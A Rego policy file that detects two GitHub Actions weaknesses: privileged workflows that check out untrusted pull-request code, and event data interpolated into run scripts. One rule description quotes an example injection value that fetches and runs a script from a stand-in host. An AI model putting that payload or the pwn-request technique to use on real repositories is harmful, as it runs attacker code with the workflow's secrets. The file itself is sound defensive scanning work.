# Untrusted input reaching scripts and privileged checkouts.
package github

import data.lib.util

# Triggers that run with the base repository's secrets and a write token, even for pull requests
# from forks.
privileged_events := {"pull_request_target", "workflow_run"}

# Expressions that name the code of a pull request (or of the run that triggered workflow_run).
untrusted_ref := `github\.event\.pull_request\.head|github\.event\.pull_request\.merge_commit_sha|github\.head_ref|refs/pull/|github\.event\.workflow_run\.head`

untrusted_checkouts contains {"detail": sprintf("checks out %s", [s.step["with"].ref]), "path": array.concat(s.path, ["with", "ref"])} if {
	some s in steps
	startswith(lower(util.string_at(s.step, ["uses"])), "actions/checkout@")
	regex.match(untrusted_ref, util.string_at(s.step, ["with", "ref"]))
}

untrusted_fetch := concat("", [`gh\s+pr\s+checkout|git\s+(fetch|checkout|pull|switch)\b[^\n]*(`, untrusted_ref, `)`])

untrusted_checkouts contains {"detail": "fetches the pull request's code in a run script", "path": array.concat(s.path, ["run"])} if {
	some s in steps
	script := util.string_at(s.step, ["run"])
	regex.match(untrusted_fetch, script)
}

# METADATA
# title: Privileged workflow checks out untrusted code
# description: >-
#   A workflow triggered by `pull_request_target` (or `workflow_run`) runs with the repository's
#   secrets and a write token even for pull requests from forks. Checking out the pull request's
#   code and building or testing it lets anyone who opens a pull request run code with those
#   privileges ("pwn request").
# custom:
#   id: GHA-004
#   severity: critical
#   enforcement: deny
#   remediation: >-
#     Use the `pull_request` trigger to build untrusted code; if a privileged step is needed, run it
#     in a separate `workflow_run` workflow that only consumes artifacts and never executes them.
findings contains {
	"id": "GHA-004",
	"msg": sprintf("a %s workflow %s", [concat("/", sort([e | some e in events; e in privileged_events])), c.detail]),
	"path": c.path,
} if {
	some event in events
	event in privileged_events
	some c in untrusted_checkouts
}

# Scripts where an expression is pasted into code before it runs: `run:` steps, and the `script`
# input of actions/github-script.
scripts contains {"text": s.step.run, "path": array.concat(s.path, ["run"])} if {
	some s in steps
	is_string(s.step.run)
}

scripts contains {"text": s.step["with"].script, "path": array.concat(s.path, ["with", "script"])} if {
	some s in steps
	startswith(lower(util.string_at(s.step, ["uses"])), "actions/github-script@")
	is_string(s.step["with"].script)
}

# Event fields an outsider cannot shape: numbers, IDs, hashes, timestamps, counts, flags.
safe_context := `\.(number|id|sha|before|after|action|merged|draft|size|additions|deletions|changed_files|commits|comments|[a-z_]+_(sha|id|at|count|number))$`

interpolations contains {"context": context, "path": s.path} if {
	some s in scripts
	some expression in regex.find_all_string_submatch_n(`\$\{\{([^}]*)\}\}`, s.text, -1)
	some match in regex.find_all_string_submatch_n(`github\.event(\.[A-Za-z0-9_*-]+|\[[^\]]*\])+|github\.head_ref`, expression[1], -1)
	context := match[0]
	not regex.match(safe_context, context)
}

# METADATA
# title: Event data interpolated into a script
# description: >-
#   `${{ github.event.… }}` in a `run:` script (or a github-script `script`) is pasted into the
#   code before the shell runs it: an issue title, branch name or commit message such as
#   `"; curl evil.sh | sh #` becomes a command with the workflow's token and secrets. Numbers,
#   IDs and hashes are not reported.
# custom:
#   id: GHA-005
#   severity: high
#   enforcement: deny
#   remediation: >-
#     Pass the value through an environment variable and quote it in the script: `env: {TITLE: "${{
#     github.event.issue.title }}"}` and `run: echo "$TITLE"`.
findings contains {
	"id": "GHA-005",
	"msg": sprintf("${{ %s }} is interpolated into a script", [i.context]),
	"path": i.path,
} if some i in interpolations
